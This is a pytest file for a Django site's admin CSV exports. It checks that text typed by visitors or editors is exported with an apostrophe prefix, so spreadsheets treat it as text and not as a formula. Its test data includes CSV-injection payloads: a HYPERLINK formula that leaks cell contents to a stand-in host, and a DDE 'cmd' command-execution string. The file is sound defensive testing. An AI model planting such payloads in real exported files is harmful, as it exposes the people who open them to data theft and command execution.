"""Every CSV the admin offers shows visitor- or editor-typed text as text, never as a formula."""

import csv
import datetime
import io

import pytest
from django.urls import reverse

from newsletter.tests.factories import SubscriberFactory
from resources.models.documents import DocumentDownload
from resources.tests.factories import WhitepaperDocumentFactory
from security.exports import neutralise

FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(A1)",
    "\t=1",
    "\r=1",
]


def csv_rows(response):
    content = b"".join(response.streaming_content).decode("utf-8-sig")
    return list(csv.reader(io.StringIO(content)))


def cells(response):
    return [cell for row in csv_rows(response) for cell in row]


@pytest.mark.parametrize("value", FORMULAS)
def test_a_cell_that_starts_like_a_formula_is_written_as_text(value):
    assert neutralise(value) == "'" + value


@pytest.mark.parametrize("value", ["Ada", "ada@example.com", "1+1", "", " =x"])
def test_other_cells_are_left_alone(value):
    assert neutralise(value) == value


def test_form_submissions_export(client, editor_client, book_a_call):
    formula = FORMULAS[0]
    response = client.post(
        book_a_call.url,
        {
            "name": formula,
            "work_email": "ada@example.com",
            "company": "=cmd|' /C calc'!A0",
            "what_do_you_want_to_build": "@SUM(1+1)",
            "preferred_time_for_a_call": "-1+2",
        },
    )
    assert response.status_code == 200

    export = editor_client.get(f"/admin/forms/submissions/{book_a_call.pk}/", {"export": "csv"})
    found = cells(export)
    assert "'" + formula in found
    assert "'=cmd|' /C calc'!A0" in found
    assert "'@SUM(1+1)" in found
    assert "'-1+2" in found
    assert formula not in found


def test_newsletter_subscribers_export(editor_client, db):
    SubscriberFactory(email="=1+1@example.com")
    export = editor_client.get("/admin/newsletter/subscriber/", {"export": "csv"})
    assert "'=1+1@example.com" in cells(export)


def test_search_reports_export(client, editor_client, home_page):
    client.get("/search/", {"q": "=HYPERLINK zebra"})
    for name in ("search_reports:popular", "search_reports:no_results"):
        export = editor_client.get(reverse(name), {"export": "csv"})
        assert "'=hyperlink zebra" in cells(export), name


def test_document_downloads_export(editor_client, db):
    document = WhitepaperDocumentFactory(title="=2+3 Indic OCR")
    DocumentDownload.objects.create(document=document, date=datetime.date(2026, 11, 3), count=2)
    export = editor_client.get(reverse("resources_document_downloads"), {"export": "csv"})
    assert "'=2+3 Indic OCR" in cells(export)


def test_xlsx_exports_are_unchanged(editor_client, db):
    SubscriberFactory(email="=1+1@example.com")
    export = editor_client.get("/admin/newsletter/subscriber/", {"export": "xlsx"})
    assert export.status_code == 200
